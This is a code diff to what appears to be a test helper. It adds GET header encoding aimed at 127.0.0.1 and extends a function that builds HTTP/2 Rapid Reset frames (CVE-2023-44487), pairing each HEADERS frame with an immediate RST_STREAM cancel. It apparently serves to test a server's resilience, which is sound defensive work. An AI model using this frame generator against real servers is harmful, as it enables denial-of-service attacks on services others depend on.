@@ -50,13 +50,18 @@ export const POST_HEADERS = concat(
   literal('application/dns-message'),
 );
 
+/** The same as `GET`. */
+export const getHeaders = (path: string): Uint8Array =>
+  concat([0x82, 0x87, 0x04], literal(path), [0x01], literal('127.0.0.1'));
+
 /** Requests that are reset at once (CVE-2023-44487). @param before the requests that the connection had before */
-export function resetRequests(before: number, count: number): Uint8Array {
+export function resetRequests(before: number, count: number, headers = POST_HEADERS): Uint8Array {
   const { HEADERS, RST_STREAM } = FrameType;
+  const flags = END_HEADERS | (headers === POST_HEADERS ? 0 : END_STREAM);
   const ids = Array.from({ length: count }, (_, i) => 2 * (before + i) + 1);
   return concat(
     ...ids.flatMap((id) => [
-      http2Frame(HEADERS, END_HEADERS, id, POST_HEADERS),
+      http2Frame(HEADERS, flags, id, headers),
       http2Frame(RST_STREAM, 0, id, CANCEL),
     ]),
   );
